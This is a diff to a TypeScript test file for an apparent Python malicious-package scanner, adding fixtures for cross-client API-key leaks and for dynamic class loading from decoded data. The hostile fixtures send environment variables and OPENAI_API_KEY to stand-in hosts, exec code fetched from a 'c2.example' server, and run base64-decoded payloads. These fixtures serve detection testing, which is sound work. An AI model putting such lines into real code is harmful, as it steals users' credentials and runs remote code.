@@ -24,6 +24,31 @@ const encoded = (code: string) => new TextEncoder().encode(code).toBase64();
 const PAYLOAD = encoded("import os, urllib.request\nurllib.request.urlopen('https://c2.example')");
 const ZIPPED = new Uint8Array(gzipSync("print(1)")).toBase64();
 
+/** A function that looks up in decoded data which class is meant, and what it does with the class. */
+const RESTORED = (use: string, before = ""): string =>
+  "import base64, json\n\ndef restore(raw):\n" + before +
+  "    text = base64.b64decode(raw).decode()\n    data = json.loads(text)\n" +
+  "    module = __import__(data['module'], fromlist=['x'])\n" +
+  "    kind = getattr(module, data['class'])\n" + use;
+
+/** One client fills in its own key; what another does with an object of the same class. */
+const TWO_CLIENTS = (other: string): Files => ({
+  "kit/config.py": "class Config:\n    def __init__(self, key=None):\n        self.key = key\n",
+  "kit/first.py": "import os\nfrom .config import Config\n\nclass First:\n" +
+    "    def __init__(self, config=None):\n        if config is None:\n" +
+    "            config = Config()\n            config.key = os.getenv('OPENAI_API_KEY')\n" +
+    "        self.config = config\n",
+  "kit/second.py": "import os, httpx\nfrom .config import Config\nfrom .first import First\n\n" +
+    "class Second:\n    def __init__(self, config=None):\n" +
+    "        given = config or Config()\n" +
+    "        self.own = given.key or os.getenv('SECOND_API_KEY')\n\n" +
+    "    def get(self):\n" +
+    "        return httpx.get('https://api.second.example', headers={'Authorization': self.own})\n" +
+    other,
+  "kit/__init__.py": "from .second import Second\n\n__all__ = ['Second']\n",
+});
+const SENT_BY_SECOND = "py/key-sent kit/second.py:11";
+
 /** Each package, and a rule that it breaks with the place. */
 const HOSTILE: Record<string, [files: Files, found: string]> = {
   "the environment is sent at import": [{
@@ -58,9 +83,63 @@ const HOSTILE: Record<string, [files: Files, found: string]> = {
     "kit/__init__.py": "import os, requests\n" +
       "requests.get('https://metrics.example/' + os.environ['OPENAI_API_KEY'])\n",
   }, "py/key-sent kit/__init__.py:2"],
+  "one client is made with what another filled": [
+    TWO_CLIENTS("\nSecond(First().config).get()\n"),
+    SENT_BY_SECOND,
+  ],
+  "one client is made by another name with what another filled": [{
+    ...TWO_CLIENTS(""),
+    "kit/run.py": "from .first import First\nfrom .second import Second as Client\n" +
+      "Client(First().config).get()\n",
+  }, SENT_BY_SECOND],
+  "a class of its own is a client with what another filled": [
+    TWO_CLIENTS("\nclass Third(Second):\n    pass\n\nThird(First().config).get()\n"),
+    SENT_BY_SECOND,
+  ],
+  "a client reads what objects of a class have by themselves": [{
+    ...TWO_CLIENTS(""),
+    "kit/first.py": "import os\n\nclass First:\n    def __init__(self):\n" +
+      "        self.key = os.getenv('OPENAI_API_KEY')\n",
+  }, SENT_BY_SECOND],
+  "a client reads what a class has by itself": [{
+    ...TWO_CLIENTS(""),
+    "kit/first.py": "import os\nfrom .config import Config\nclass First: pass\n" +
+      "Config.key = os.getenv('OPENAI_API_KEY')\n",
+  }, SENT_BY_SECOND],
+  "a client reads what a function fills for its callers": [{
+    ...TWO_CLIENTS(""),
+    "kit/first.py": "import os\nfrom .config import Config\nclass First: pass\n" +
+      "def configured():\n    config = Config()\n" +
+      "    config.key = os.getenv('OPENAI_API_KEY')\n    return config\n",
+  }, SENT_BY_SECOND],
+  "a client inherits what its base is filled with": [{
+    ...TWO_CLIENTS(""),
+    "kit/config.py": "import os\n\nclass Config:\n    def __init__(self, own):\n" +
+      "        own.key = os.getenv('OPENAI_API_KEY')\n",
+    "kit/first.py": "from .config import Config\n\nclass First:\n" +
+      "    def __init__(self):\n        Config(self)\n",
+    "kit/second.py": "import httpx\nfrom .first import First\n\nclass Second(First):\n" +
+      "    def get(self):\n" +
+      "        return httpx.get('https://api.second.example', headers={'Authorization': self.key})\n",
+  }, "py/key-sent kit/second.py:6"],
+  "clients are made that nothing names": [{
+    ...TWO_CLIENTS(""),
+    "kit/run.py": "from .first import First\nfor each in object.__subclasses__():\n" +
+      "    each(First().config).get()\n",
+  }, SENT_BY_SECOND],
   "decoded text is run": [{
     "kit/__init__.py": `import base64\nexec(base64.b64decode("${PAYLOAD}"))\n`,
   }, "py/encoded-code kit/__init__.py:2"],
+  "decoded text between braces is run": [{
+    "kit/__init__.py": "import base64\ncode = base64.b64decode('{cHJpbnQoMSk}').decode()\n" +
+      "short = base64.b64decode('{cHJpbnQo}').decode()\nexec(short)\n",
+  }, "py/encoded-code kit/__init__.py:4"],
+  "long decoded text between braces is run": [{
+    "kit/__init__.py": `import base64\nexec(base64.b64decode("{${PAYLOAD}}"))\n`,
+  }, "py/encoded-code kit/__init__.py:2"],
+  "a text is decoded that a name holds": [{
+    "kit/__init__.py": "import base64\ndef run(code):\n    exec(base64.b64decode(code))\n",
+  }, "py/encoded-code kit/__init__.py:3"],
   "decoded text is run through names": [{
     "kit/__init__.py":
       `import base64, zlib\nblob = "${ZIPPED}"\ncode = zlib.decompress(base64.b64decode(blob), 31)\n` +
@@ -70,6 +149,23 @@ const HOSTILE: Record<string, [files: Files, found: string]> = {
     "kit/__init__.py": "exec('''import os, requests\n" +
       "requests.post('https://collect.example', json=dict(os.environ))\n''')\n",
   }, "py/environment-sent kit/__init__.py:2"],
+  "decoded data names a class that is made an object of": [{
+    "kit/__init__.py": RESTORED("    return kind(data['args'])\n"),
+  }, "py/encoded-code kit/__init__.py:7"],
+  "decoded data names a class whose method is chosen for what it does": [{
+    "kit/__init__.py": RESTORED("    return kind.run(data['args'])\n"),
+  }, "py/encoded-code kit/__init__.py:7"],
+  "decoded data names what is called beside a method that restores objects": [{
+    "kit/__init__.py": RESTORED("    if 'args' in data: kind(data['args'])\n") +
+      "    return kind.from_json(text)\n",
+  }, "py/encoded-code kit/__init__.py:7"],
+  "decoded data names what another function calls": [{
+    "kit/__init__.py": RESTORED("    return call(kind)\n") + "\ndef call(f):\n    f('id')\n",
+  }, "py/encoded-code kit/__init__.py:7"],
+  "decoded data names what the module keeps": [{
+    "kit/__init__.py": RESTORED("    return kind.from_json(text)\n", "    global kind\n") +
+      "\ndef call():\n    kind('id')\n",
+  }, "py/encoded-code kit/__init__.py:8"],
   "what a server answers is run": [{
     "kit/__init__.py":
       "import urllib.request\nexec(urllib.request.urlopen('https://c2.example/a').read())\n",
@@ -114,6 +210,18 @@ const HONEST: Record<string, Files> = {
       "        self.key = key or os.environ.get('KIT_API_KEY')\n\n    def get(self, path):\n" +
       "        headers = {'Authorization': 'Bearer ' + self.key}\n" +
       "        return httpx.get('https://api.kit.example/' + path, headers=headers).json()\n",
+  },
+  "stored objects that are restored by their class": {
+    "kit/__init__.py": RESTORED("    return kind.from_json(text)\n"),
+    "kit/store.py": "import base64, json\nfrom importlib import import_module\n\n" +
+      "def load(raw):\n    data = json.loads(base64.b64decode(raw))\n" +
+      "    return getattr(import_module(data['m']), data['c']).from_dict(data['fields'])\n",
+  },
+  "clients of two services whose settings are of one class": TWO_CLIENTS(""),
+  "a program for elsewhere with a place for code": {
+    "kit/wrapper.py": "import base64\n\ndef run(code):\n    exec(compile(code, 'x', 'exec'))\n\n" +
+      "if __name__ == '__main__':\n    run(base64.b64decode('{encoded_code}').decode())\n" +
+      "    run(base64.b64decode('%user_code%').decode())\n",
   },
   "a template engine that compiles what it makes": {
     "kit/__init__.py":
